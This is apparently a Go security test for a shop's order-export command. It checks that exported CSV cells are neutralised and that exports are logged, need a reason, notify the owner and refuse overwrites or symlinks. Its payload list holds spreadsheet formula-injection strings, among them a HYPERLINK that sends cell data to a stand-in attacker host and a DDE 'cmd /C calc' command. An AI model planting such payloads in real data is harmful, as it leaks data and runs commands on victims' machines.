package attack

import (
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"strongroom/tools/shopper"
)

// formulas are what a buyer types who wants to have a spreadsheet run it (V1.2.10).
var formulas = []string{`=HYPERLINK("https://evil.example?"&A1;"x")`, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "＝1+1", `";=1+1;"`}

// formulaInjection buys with formulas as notes and names, and takes all orders out on the console. The same command is
// loud: the owner is mailed, and everybody in the file has a look in the log.
func formulaInjection(t *testing.T, s *site) string {
	var numbers []string
	for i, f := range formulas {
		p := &planted{}
		who := shopper.Somebody(p.word() + "@" + p.word() + ".example")
		who["note"] = f
		o, err := s.stranger().Buy(t.Context(), s.Shop, "/en/p/card", who, shopper.Paid)
		if err != nil {
			t.Fatalf("%d %q: %v", i, f, err)
		}
		numbers = append(numbers, o.Number)
	}
	wait(t, func() bool { return s.state(t, numbers[len(numbers)-1]) == 3 })
	day := time.Now().Format(time.DateOnly)
	before := s.count(t, `SELECT COUNT(*) FROM audit_entry WHERE action = 'vault.look' AND outcome = 1`)
	file := filepath.Join(t.TempDir(), "orders.csv")
	args := []string{"order", "export", "--from", yesterday(), "--until", day, "--out", file}
	if out, err := s.Command(args...); err == nil {
		t.Errorf("personal data of many people without a reason:\n%s", out)
	}
	args = append(args, "--reason", "moving to another ledger")
	s.MustCommand(args...)
	if _, ok := s.Mail.Wait("shop@rig.example", 20*time.Second, func(data string) bool { return strings.Contains(data, "console") }); !ok {
		t.Error("nobody was mailed")
	}
	looks := s.count(t, `SELECT COUNT(*) FROM audit_entry WHERE action = 'vault.look' AND outcome = 1`) - before
	info, err := os.Stat(file)
	fatal(t, err)
	if looks < int64(len(numbers)) || info.Mode().Perm() != 0o600 {
		t.Errorf("%d looks, and the file is %s", looks, info.Mode())
	}
	if out, err := s.Command(args...); err == nil {
		t.Errorf("wrote over a file:\n%s", out)
	}
	link := filepath.Join(t.TempDir(), "link.csv")
	fatal(t, os.Symlink(filepath.Join(t.TempDir(), "elsewhere.csv"), link))
	args[7] = link
	if out, err := s.Command(args...); err == nil {
		t.Errorf("wrote through a link:\n%s", out)
	}
	b, err := os.ReadFile(file)
	fatal(t, err)
	harmless(t, string(b), numbers)
	numbersOnly := s.MustCommand("order", "export", "--numbers", "--from", yesterday(), "--until", day, "--out", "-")
	if strings.Contains(numbersOnly, "@") || !strings.Contains(numbersOnly, numbers[0]) {
		t.Errorf("numbers only:\n%.300s", numbersOnly)
	}
	return fmt.Sprintf("%d formulas, %d looks logged, one mail", len(formulas), looks)
}

func yesterday() string { return time.Now().AddDate(0, 0, -1).Format(time.DateOnly) }

// harmless reads the file as spreadsheets do and looks at the first sign of every cell.
func harmless(t *testing.T, text string, numbers []string) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(text, "\uFEFF"))).ReadAll()
	fatal(t, err)
	found := 0
	for _, row := range rows[1:] {
		for _, cell := range row {
			if c := strings.TrimLeft(cell, " \""); c != "" && strings.ContainsAny(c[:1], "=+-@\t\r\n|") || strings.HasPrefix(cell, "＝") {
				t.Errorf("a cell is %q", cell)
			}
		}
		for _, n := range numbers {
			if row[0] == n {
				found++
			}
		}
	}
	if found != len(numbers) {
		t.Errorf("%d of %d orders are in the file", found, len(numbers))
	}
}
